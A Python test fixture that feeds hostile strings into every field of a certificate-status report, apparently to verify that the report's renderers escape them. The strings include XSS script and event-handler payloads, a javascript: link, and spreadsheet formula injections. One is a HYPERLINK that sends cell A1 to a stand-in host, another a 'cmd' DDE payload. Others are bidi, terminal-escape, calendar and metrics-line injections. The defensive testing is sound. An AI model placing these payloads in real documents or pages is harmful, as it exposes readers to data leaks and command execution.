# SPDX-FileCopyrightText: The inkan.tls developers
# SPDX-License-Identifier: GPL-3.0-or-later
"""Texts of others that mean harm to one form or another, and a report in which every text is such a one."""

from __future__ import annotations

from dataclasses import replace

from ansible_collections.inkan.tls.plugins.module_utils._report.model import (
    Change,
    Changes,
    Cliff,
    Group,
    Load,
    Month,
    Report,
    Share,
    Waiting,
)
from ansible_collections.inkan.tls.tests.unit.plugins.module_utils._report.reported import One, a_row

TEXTS = {
    "markup": "</style></td><script>alert(1)</script><img src=x onerror=alert(1)>",
    "an attribute": '" onmouseover="alert(1)" x=\'',
    "a formula": '=HYPERLINK("http://x.example/"&A1,"click")',
    "a formula after a blank": " \t=1+1",
    "a sum": "+1-1",
    "a negative": "-2+3",
    "a function": "@SUM(A1:A9)",
    "a wide formula": "\uff1dcmd|' /C calc'!A0",
    "a quotation mark": 'a","b"',
    "another direction": "a\u202eb\u2066c\u2069\u200fd",
    "colours of a terminal": "a\x1b[31mred\x1b[0m\x07\x9b5m",
    "a zero": "a\x00b",
    "lines of a calendar": "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:x\nb\u2028c\u0085d",
    "lines of metrics": 'a"} 1\ncert_group{certificate="x',
    "letters of four bytes": "𠮷野家 🍣 \U000e0041",
    "half a letter": "a\ud83cb",
    "Markdown": "| x | [a](javascript:alert(1)) `b` **c** <b>d</b> # e ![f](g) ~h~ &lt;",
    "separators": "a;b,c:d\\n\\e",
    "templates": "{{ 7 * 7 }} {0} {name} %s ${x} \\1 @1 \0",
    "long": "あ" * 5000,
    "nothing": "",
}


def hostile_report(text: str) -> Report:
    """Where a program reads a word of ours (group, kind) it stays ours."""
    row = a_row(One("a"))
    waiting = Waiting(text, text, text, text)
    words = (
        "name outcome state common_name product seller ca_account method method_ends_on validated_until contact"
        " not_before not_after serial issuer renews_on cancel_by order since"
    ).split()
    lists = ("sentences", "dns_names", "hosts", "mails")
    hostile = replace(
        row,
        group=Group.ATTENTION,
        waiting=waiting,
        tasks=(waiting, Waiting("customer", text, "2026-12-01T00:00:00Z", text)),
        cliffs=(Cliff(text, text, text), Cliff("2027-03-15", text, text)),
        **dict.fromkeys(words, text),  # type: ignore[arg-type]
        **dict.fromkeys(lists, (text,) * 12),
    )
    dated = replace(hostile, group=Group.IN_ORDER, not_after="2027-04-30T14:59:59Z", name=f"b{text}", waiting=None)
    share = Share(1, (text,), 1, 1)
    changes = Changes(text, text, tuple(Change(text, kind, text, text) for kind in KINDS))
    load = Load((Month("2026-11", 1, 1, 0),), share, (text,), share)
    return Report("2026-11-20", (text,), (hostile, dated), load, changes)


KINDS = ("added", "removed", "certificate", "group", "state", "turn")
